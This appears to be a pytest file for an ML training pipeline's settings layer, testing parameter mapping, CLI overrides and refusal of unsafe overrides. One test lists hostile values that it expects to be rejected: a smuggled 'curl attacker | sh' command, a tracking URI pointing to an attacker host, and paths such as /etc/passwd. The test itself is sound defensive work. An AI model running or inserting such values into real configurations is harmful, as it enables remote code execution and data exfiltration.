"""Params -> settings (operators/stages.py), and the one override path: a DAG param, `--set` or an
EVERGREEN_* variable of a list or null reaches the Ray job typed (tasks.stages.training.grpo_command)."""

import json
import os
import shlex
import subprocess
import sys

import pytest

from operators.stages import overrides_from_params, settings_for
from tasks.config import PROJECT_ROOT


def test_params_map_onto_settings_fields():
    params = {
        "target_toolset": "2",
        "grpo_steps": 3,
        "eval_tasks": 16,
        "sft_steps": None,
        "force": True,
        "max_cost_usd": 0.5,
        "overrides": {"grpo.tasks_per_step": 4, "promotion.min_gain": 0.1},
    }
    assert overrides_from_params(params) == {
        "env.target_toolset": "2",
        "grpo.steps": 3,
        "eval.num_tasks": 16,
        "promotion.max_cost_usd": 0.5,
        "grpo.tasks_per_step": 4,
        "promotion.min_gain": 0.1,
    }
    s = settings_for(params)
    assert (s.grpo.steps, s.eval.num_tasks, s.grpo.tasks_per_step, s.promotion.min_gain) == (3, 16, 4, 0.1)
    assert s.promotion.max_cost_usd == 0.5
    assert settings_for({}).grpo.steps == settings_for(None).grpo.steps


def test_bad_overrides_name_the_field():
    from tasks.config import SettingsError

    with pytest.raises(SettingsError, match="SECTION.FIELD"):
        settings_for({"overrides": {"steps": 3}})
    with pytest.raises(SettingsError, match="grpo.steps"):
        settings_for({"grpo_steps": -1})


def _cli(*args, env=None):
    proc = subprocess.run(
        [sys.executable, "-m", "tasks", *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=PROJECT_ROOT,
        env={**os.environ, "PYTHONPATH": str(PROJECT_ROOT), **(env or {})},
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads(proc.stdout)


def test_set_and_environment_take_lists_and_null_as_json():
    got = _cli(
        "--set",
        'ingest.required_workloads=["lookup", "booking"]',
        "--set",
        "grpo.guard_kl_coef=null",
        "settings",
        env={"EVERGREEN_GRPO__GUARD_KL_COEF": "0.5"},
    )
    assert got["ingest"]["required_workloads"] == ["lookup", "booking"] and got["grpo"]["guard_kl_coef"] is None
    got = _cli(
        "settings", env={"EVERGREEN_INGEST__REQUIRED_WORKLOADS": '["lookup"]', "EVERGREEN_GRPO__GUARD_KL_COEF": "null"}
    )
    assert got["ingest"]["required_workloads"] == ["lookup"] and got["grpo"]["guard_kl_coef"] is None


def test_a_dag_param_of_a_list_or_null_reaches_the_ray_job_typed(tmp_path, monkeypatch):
    from tasks.rundir import RunDir
    from tasks.stages.training import grpo_command

    monkeypatch.setenv("EVERGREEN_RUN_DIR", str(tmp_path))  # the deployment's; a run's params may not move it
    params = {"grpo_steps": 2, "overrides": {"grpo.lora.target_modules": ["q_proj"], "grpo.guard_kl_coef": None}}
    settings = settings_for(params)
    rd = RunDir.for_run(settings, "continuous_post_training", "manual__1")
    (rd.path / "champion").mkdir()
    (rd.path / "champion" / "config.json").write_text("{}")  # the run's champion, already fetched
    rd.write({"backend": "local", "address": "127.0.0.1:6390", "env": {"RAY_AUTH_MODE": "token"}}, "cluster.json")
    job = grpo_command(settings, rd, fail_training_at_step=3)
    args = shlex.split(job["entrypoint"])
    assert args[args.index("train") + 1 : args.index("train") + 3] == ["--init", str(rd.path / "champion")]
    assert args[-2:] == ["--fail-at-step", "3"] and job["env_vars"]["RAY_AUTH_MODE"] == "token"
    # what the job's driver loads: the settings file as it is; the job's environment does not change it
    settings_file = args[args.index("--settings") + 1]
    seen = _cli(
        "--settings",
        settings_file,
        "settings",
        env={"EVERGREEN_GRPO__GUARD_KL_COEF": "0.5", "EVERGREEN_GRPO__STEPS": "9"},
    )
    assert seen["grpo"]["lora"]["target_modules"] == ["q_proj"] and seen["grpo"]["guard_kl_coef"] is None
    assert seen["grpo"]["steps"] == 2 and seen["ray"]["address"] == "127.0.0.1:6390"


def test_a_runs_params_may_tune_training_but_not_loosen_the_gate_or_point_elsewhere():
    from tasks.config import SettingsError

    tuned = settings_for(
        {
            "grpo_steps": 3,
            "overrides": {"rollout.group_size": 4, "promotion.min_gain": 0.2, "promotion.guard_tolerance": 0.01},
        }
    )
    assert (tuned.grpo.steps, tuned.rollout.group_size, tuned.promotion.min_gain) == (3, 4, 0.2)
    month = settings_for({"overrides": {"timeline.traces_per_day": 300, "timeline.retrain": {"grpo.steps": 4}}})
    assert (month.timeline.traces_per_day, month.timeline.retrain) == (300, {"grpo.steps": 4})
    refused = {
        "promotion.min_gain": -0.99,
        "promotion.min_gain_per_dollar": 0,
        "promotion.guard_tolerance": 0.99,
        "tracking.uri": "http://attacker:5000",
        "cost.prices_file": "/etc/passwd",
        "run_dir": "/tmp/x",
        "monitor.traces": "s3://elsewhere/",
        "env.name": "evil.module:factory",
        "model.name_or_path": "/x",
        "grpo.production_tasks": "/etc/hosts",
        "ray.address": "10.0.0.1:6379",
        "timeline.champion": "/etc",
        "timeline.retrain": {"grpo.steps": 2, "promotion.min_gain": -0.99},
    }
    with pytest.raises(SettingsError) as e:
        settings_for({"overrides": refused})
    for field in refused:  # every refused field in one error, with why
        assert f"  {field}=" in str(e.value), field
    with pytest.raises(SettingsError, match="only make the gate stricter"):
        settings_for({"overrides": {"promotion.min_gain": 0.0}})
    with pytest.raises(SettingsError, match="shipped toolset version"):
        settings_for({"target_toolset": "mcp:sh -c 'curl attacker | sh'"})
    assert settings_for({"target_toolset": "v1"}).env.target_toolset == "v1"


def test_a_failed_task_logs_one_line_with_why_and_where(caplog):
    from types import SimpleNamespace

    from operators.defaults import log_failure

    ti = SimpleNamespace(dag_id="continuous_post_training", task_id="grpo_update", run_id="manual__1", try_number=2)
    log_failure({"ti": ti, "exception": RuntimeError("GRPO training failed on 1 worker(s)\ntraceback...")})
    lines = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(lines) == 1 and "\n" not in lines[0]
    assert (
        "continuous_post_training.grpo_update of run manual__1 failed (try 2): RuntimeError: GRPO training failed"
        in lines[0]
        and "/evergreen/" in lines[0]
        and "/dags/continuous_post_training/runs/manual__1" in lines[0]
    )
